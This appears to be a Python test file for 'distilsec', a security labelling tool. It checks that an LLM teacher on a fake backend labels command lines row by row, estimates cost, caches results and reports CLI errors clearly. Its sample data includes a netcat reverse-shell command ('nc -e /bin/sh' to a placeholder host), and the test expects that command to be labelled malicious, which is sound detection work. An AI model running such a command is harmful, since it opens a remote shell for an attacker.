"""`distilsec label`: labelling a file row by row through the ledger, with a cost estimate first."""

from __future__ import annotations

import io
import json

from typer.testing import CliRunner

from distilsec.cli.app import app
from distilsec.pipeline.label import label_file
from distilsec.teachers.llm.teacher import LLMTeacher
from tests.conftest import make_texts
from tests.teachers.llm.fakes import FakeLLMBackend


def _teacher(tmp_path):
    texts, labels, _ = make_texts(60)
    t = LLMTeacher(ledger=str(tmp_path / "l.sqlite"), calibration="none", progress=False)
    return t.connect(FakeLLMBackend()).fit(texts, labels)


def test_label_file_keeps_rows_aligned_and_reuses_the_ledger(tmp_path):
    src = tmp_path / "in.jsonl"
    src.write_text('{"id": "a", "text": "git status"}\nnot json\n{"id": "b", "cmdline": "nc -e /bin/sh h 1"}\n')
    teacher = _teacher(tmp_path)
    est = label_file(teacher, str(src), io.StringIO(), estimate_only=True)
    assert est.estimate.calls == 2 and est.calls == 0 and est.n_errors == 1
    out = io.StringIO()
    stats = label_file(teacher, str(src), out)
    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [r["row"] for r in rows] == [0, 1, 2] and rows[0]["id"] == "a" and "error" in rows[1]
    assert rows[2]["label"] == "malicious" and abs(sum(rows[2]["proba"].values()) - 1) < 1e-6
    assert (stats.calls, stats.n_labelled) == (2, 2)
    again = label_file(teacher, str(src), io.StringIO())
    assert again.calls == 0 and again.cached == 2


def test_cli_errors_are_friendly(tmp_path):
    res = CliRunner().invoke(app, ["label", "run", "x.txt", "--teacher", str(tmp_path / "missing")])
    assert res.exit_code == 2 and "not found" in res.output
    res = CliRunner().invoke(app, ["label", "assemble", "no-such-model"])
    assert res.exit_code == 2 and "neither a file nor a known alias" in res.output
    res = CliRunner().invoke(app, ["semisup", "figure2", str(tmp_path / "nope.yaml"), "--out", str(tmp_path)])
    assert res.exit_code == 2 and "not found" in res.output
